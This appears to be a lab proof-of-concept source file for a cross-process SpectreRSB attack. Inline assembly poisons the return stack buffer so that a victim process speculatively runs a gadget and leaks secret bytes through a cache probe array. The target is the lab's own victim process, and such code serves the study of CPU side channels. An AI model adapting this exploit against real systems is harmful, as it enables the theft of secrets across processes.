/*
 * SpectreRSB across processes: the victim returns by entries that the attacker's calls have left.
 *
 * The victim sleeps in a function that waits for a request. Meanwhile the attacker makes 16 calls that it never
 * returns from; each leaves the address of a gadget, in code that both processes have, in the return stack buffer.
 * When the victim wakes up and returns, it goes there until its stack has been read. By then RAX has what the
 * function returns: the address of a byte of the secret.
 */
#define LAB_OWN_WAIT
#include "pair.h"

static const char ABOUT[] = "process 2 only: it made the secret after the fork";

u8 secret[MOST] __attribute__((aligned(LINE)));
u64 requested;

/* fill(): 16 calls without a return; afterwards the buffer predicts the gadget 16 times. */
__asm__("fill:\n\t"
        "mov $16, %ecx\n"
        "1:\tcall 2f\n\t"
        "movzbl (%rax), %eax\n\t" /* the gadget */
        "shl $" STRIDE_SHIFT ", %rax\n\t"
        "movzbl probe(%rax), %eax\n"
        "3:\tpause\n\t"
        "lfence\n\t"
        "jmp 3b\n"
        "2:\tadd $8, %rsp\n\t"
        "dec %ecx\n\t"
        "jnz 1b\n\t"
        "jmp *%rdx\n"
        /* wait_for(RDI = file): reads a number, returns secret + number in RAX, or 0 */
        "wait_for:\n\t"
        "xor %eax, %eax\n\t"
        "mov $requested, %esi\n\t"
        "mov $1, %edx\n\t"
        "syscall\n\t"
        "dec %rax\n\t"
        "jnz 1f\n\t"
        "mov requested, %rax\n\t"
        "movzbl secret(%rax), %ecx\n\t" /* it works with the secret */
        "add $secret, %rax\n\t"
        "clflush (%rsp)\n\t" /* a long sleep does that */
        "mfence\n\t"
        "ret\n"
        "1:\txor %eax, %eax\n\t"
        "ret");
const u8 *wait_for(i64 file);

static i64 next_request(void)
{
    const u8 *text = wait_for(requests[0]);
    return text ? text - secret : -1;
}

static void victim_prepare(u64 bytes)
{
    make_secret(secret, bytes);
}

static void serve(u64 index)
{
    touch(secret + index);
}

static int prepare(u64 bytes)
{
    return share_probe() && start_victim(bytes);
}

static void attempt(u64 index)
{
    flush_probe();
    /* Neither fill() nor ask_victim() returns: that would take from the buffer what is meant for the victim. */
    __asm__ volatile("mov $1f, %%edx\n\tjmp fill\n1:" : : : "rcx", "rdx", "cc", "memory");
    ask_victim(index);
}
